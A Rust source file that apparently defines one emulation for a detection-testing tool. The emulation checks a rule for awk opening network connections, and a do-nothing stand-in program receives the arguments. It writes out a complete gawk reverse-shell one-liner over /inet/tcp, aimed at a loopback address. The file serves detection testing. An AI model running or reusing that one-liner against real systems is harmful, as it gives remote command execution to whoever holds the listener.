//! Awk reads commands from a name that is a connection; here by a program that does nothing.

use crate::{
    Emulation,
    stage::{Failure, Stage},
};

pub(crate) const EMULATION: Emulation = Emulation {
    id: "awk-shell",
    title: "Awk told to open a connection",
    technique: "T1059.004",
    technique_v18: None,
    needs: &[],
    rules: &["Awk opening a network connection"],
    act,
};

fn act(stage: &Stage) -> Result<(), Failure> {
    stage.pretend(
        "gawk",
        &["BEGIN{s=\"/inet/tcp/0/127.0.0.1/9\";while((s|&getline c)>0){while((c|&getline)>0)print|&s}}"],
    )
}
